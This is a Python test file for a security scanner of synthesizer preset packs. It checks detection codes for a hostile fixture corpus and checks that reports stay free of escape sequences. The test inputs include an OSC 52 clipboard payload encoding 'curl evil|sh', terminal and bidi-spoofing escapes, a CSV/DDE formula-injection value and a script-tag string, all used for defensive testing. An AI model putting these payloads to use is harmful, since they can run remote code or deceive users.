"""``presetctl scan-security`` end to end: the hostile corpus, exit codes, selection, output safety."""

from __future__ import annotations

import json
import os
from pathlib import Path

import pytest
from conftest import run_subprocess
from hostile import build

from presetctl.safe_text import csv_cell

# Raw bytes/characters that must never reach a report: ESC, the C1 CSI/OSC/DCS controls, BEL,
# and the bidi override used in the hostile file name.
ESC, CSI8, OSC8, DCS8, BEL, RLO = "\x1b", "\x9b", "\x9d", "\x90", "\x07", "\u202e"


def _codes_by_file(stdout: str) -> dict[str, set[str]]:
    out: dict[str, set[str]] = {}
    for f in json.loads(stdout)["findings"]:
        out.setdefault(f["path"].rsplit("/", 1)[-1], set()).add(f["code"])
    return out


@pytest.fixture
def hostile_pack(tmp_path: Path) -> Path:
    build(tmp_path / "pack")
    return tmp_path / "pack"


def test_hostile_corpus(cli, hostile_pack: Path, monkeypatch: pytest.MonkeyPatch) -> None:  # type: ignore[no-untyped-def]
    monkeypatch.chdir(hostile_pack.parent)
    before = sorted((p.name, p.lstat().st_mtime_ns) for p in hostile_pack.iterdir())
    result = cli(["scan-security", "pack", "-o", "json"])
    assert result.exit_code == 1, result.output
    found = _codes_by_file(result.stdout)
    # Each file's exact set of codes: a finding missing or added anywhere fails (security codes, and
    # the format findings scan-security surfaces for the same bytes).
    expected = {
        "\x1b[31mred\x1b[0m.json": {"X063"},  # ESC in the file name
        "Bass\u202egpj.exe.json": {"X060"},  # bidi override in the file name
        "billion_laughs.fxp": {"X040", "X041", "U007"},  # DTD, entity expansion; Surge cannot parse it
        "bomb.json": {"X032", "X070", "X071", "F011"},  # a zip bomb named .json: disguised, binary, bomb
        "deep.json": {"P003"},
        "disguised.vital": {"X010", "X070", "F011"},  # a PE executable named .vital
        "dupes.json": {"P002"},
        "escape_name.syx": {"X063", "D001"},  # OSC 52 in a voice name; the bank's checksum is wrong
        "gzip_lying.xiz": {"X032", "X071", "G006"},  # inflation stopped at the ratio, not at the trailer's claim
        "link_in.json": {"F004"},
        "link_loop_a.json": {"F005"},
        "link_loop_b.json": {"F005"},
        "link_out.json": {"F003"},
        "lua_bytecode.fxp": {"X020", "X022", "U009"},
        "lua_os.fxp": {"X020", "X021", "U009"},
        "nested.vitalbank": {"X032", "X034", "X071", "X072"},  # X072: no .vital preset in the bank (T013)
        "payload.vital": {"X010", "T006"},
        "pe_in_wavetable.fxp": {"X010", "X020", "U005", "U009"},
        "pipe.json": {"F006"},
        "xxe.fxp": {"X040", "X042", "U007"},
        # declares 1000 bytes: inflation stops there and the CRC of the 40 MiB stream fails
        "zip_bomb_lying.vitalbank": {"X035", "X071", "X072", "T011"},
        "zip_bomb_small.vitalbank": {"X032", "X071", "T012"},
        "zip_encrypted.vitalbank": {"X033", "T001", "T006", "T011"},
        "zip_exe.vitalbank": {"X010", "T001", "T006"},
        "zip_slip.vitalbank": {"X030", "X010", "X011", "T001", "T006", "T011"},
        "zip_symlink.vitalbank": {"X031", "X072", "T011"},
    }
    assert found == expected
    # nothing was written, moved or touched
    assert sorted((p.name, p.lstat().st_mtime_ns) for p in hostile_pack.iterdir()) == before


def test_file_level_codes_carry_security_ratings(cli, hostile_pack: Path) -> None:  # type: ignore[no-untyped-def]
    result = cli(["scan-security", str(hostile_pack), "-o", "json"])
    ratings = {f["code"]: f["security_severity"] for f in json.loads(result.stdout)["findings"]}
    assert ratings["F003"] == "high" and ratings["F006"] == "high" and ratings["F005"] == "medium"
    assert ratings["P002"] == "medium" and ratings["X010"] == "critical" and ratings["X071"] == "medium"


def test_fail_on_threshold(cli, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    (tmp_path / "a.json").write_text('{"metadata": {"name": "Pad", "author": "alice@example.com"}}')
    assert cli(["scan-security", str(tmp_path), "-q"]).exit_code == 0  # only a low finding; default is high
    assert cli(["scan-security", str(tmp_path), "-q", "--fail-on", "low"]).exit_code == 1
    assert cli(["scan-security", str(tmp_path), "-q", "--fail-on", "low", "--exit-zero"]).exit_code == 0
    assert cli(["scan-security", str(tmp_path), "--fail-on", "severe"]).exit_code == 2


def test_clean_file_exits_zero_with_no_findings(cli, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    (tmp_path / "a.json").write_text('{"metadata": {"name": "Pad", "author": "Alice"}}')
    result = cli(["scan-security", str(tmp_path), "-o", "json"])
    assert result.exit_code == 0 and json.loads(result.stdout)["findings"] == []


def test_selection_is_restricted_to_security(cli, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    (tmp_path / "a.json").write_text('{"metadata": {"name": "Pad\\u202e"}}')  # no author: a metadata finding
    result = cli(["scan-security", str(tmp_path), "-o", "json"])
    assert {f["code"] for f in json.loads(result.stdout)["findings"]} == {"X060"}
    only = cli(["scan-security", str(tmp_path), "-o", "json", "--select", "X06", "--ignore", "X060"])
    assert json.loads(only.stdout)["findings"] == []
    bad = cli(["scan-security", str(tmp_path), "--select", "N0"])
    assert bad.exit_code == 2 and "selects no security rule" in bad.stderr


def test_validate_runs_security_rules_too(cli, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    (tmp_path / "a.json").write_text('{"metadata": {"name": "Pad\\u202e"}}')
    result = cli(["validate", str(tmp_path), "-o", "json"])
    assert "X060" in {f["code"] for f in json.loads(result.stdout)["findings"]}


def test_sarif_has_security_severity(cli, hostile_pack: Path) -> None:  # type: ignore[no-untyped-def]
    result = cli(["scan-security", str(hostile_pack), "-o", "sarif"])
    rules = {r["id"]: r for r in json.loads(result.stdout)["runs"][0]["tool"]["driver"]["rules"]}
    assert rules["X010"]["properties"]["security-severity"] == "9.5"
    assert rules["F003"]["properties"]["security-severity"] == "8.0"


# -- output safety -----------------------------------------------------------------------------------
HOSTILE_NAME = "Pad\x1b]52;c;Y3VybCBldmlsfHNoCg==\x07\x1b[2J\x9b31m\x9d8;;x\x90\u202egpj"


@pytest.fixture
def escape_pack(tmp_path: Path) -> Path:
    pack = tmp_path / "pack"
    pack.mkdir()
    body = json.dumps({"metadata": {"name": HOSTILE_NAME, "author": "[bold]x[/bold] :smile:"}})
    (pack / "Pad\x1b]8;;http:\x07x\x9b1m\u202egpj.json").write_text(body)
    return pack


@pytest.mark.parametrize("fmt", ["full", "concise", "json", "json-lines", "sarif", "junit", "github", "gitlab"])
def test_reports_never_carry_raw_escape_sequences(cli, escape_pack: Path, fmt: str) -> None:  # type: ignore[no-untyped-def]
    result = cli(["scan-security", str(escape_pack), "-o", fmt, "--color", "never"])
    assert result.exit_code == 1
    assert "X063" in result.stdout
    assert ESC not in result.stdout and BEL not in result.stdout, fmt


@pytest.mark.parametrize("fmt", ["full", "concise", "sarif"])
def test_reports_never_carry_c1_or_bidi(cli, escape_pack: Path, fmt: str) -> None:  # type: ignore[no-untyped-def]
    out = cli(["scan-security", str(escape_pack), "-o", fmt, "--color", "never"]).stdout
    assert not any(c in out for c in (CSI8, OSC8, DCS8, RLO)), fmt


@pytest.mark.parametrize("fmt", ["json", "json-lines"])
def test_json_reports_never_carry_c1_or_bidi(cli, escape_pack: Path, fmt: str) -> None:  # type: ignore[no-untyped-def]
    out = cli(["scan-security", str(escape_pack), "-o", fmt]).stdout
    assert not any(c in out for c in (CSI8, OSC8, DCS8, RLO)), fmt


def test_messages_escape_file_text_whatever_the_reporter(cli, escape_pack: Path) -> None:  # type: ignore[no-untyped-def]
    findings = json.loads(cli(["scan-security", str(escape_pack), "-o", "json"]).stdout)["findings"]
    for f in findings:
        assert not any(c in f["message"] for c in (ESC, CSI8, OSC8, DCS8, RLO, BEL)), f["message"]


def test_rich_markup_in_names_stays_literal(cli, escape_pack: Path) -> None:  # type: ignore[no-untyped-def]
    (escape_pack / "b.json").write_text(json.dumps({"metadata": {"name": "<script>alert(1)</script> [red]x[/red]"}}))
    out = cli(["scan-security", str(escape_pack), "-o", "full", "--color", "always"]).stdout
    assert "<script>" in out and "[red]x[/red]" in out


@pytest.mark.parametrize(("value", "cell"), [
    ("=1+1", "'=1+1"), ("+cmd", "'+cmd"), ("-cmd|' /C calc'!A0", "'-cmd|' /C calc'!A0"), ("@SUM(A1)", "'@SUM(A1)"),
    # tab and CR are escaped by visible() first, so the cell starts with a backslash: plain text
    ("\t=x", "\\x09=x"), ("\r=x", "\\x0d=x"), ("Pad", "Pad"), (-3, "-3"),
])
def test_csv_cell_neutralizes_formulas(value: object, cell: str) -> None:
    assert csv_cell(value) == cell


# -- the tool itself on hostile input -------------------------------------------------------------------
@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="needs FIFOs")
def test_fifo_and_links_never_block_a_real_process(hostile_pack: Path) -> None:
    proc = run_subprocess(["scan-security", str(hostile_pack), "-o", "concise", "-j", "1"], timeout=60)
    assert proc.returncode == 1, proc.stderr
    assert "pipe.json: F006" in proc.stdout and "Traceback" not in proc.stderr
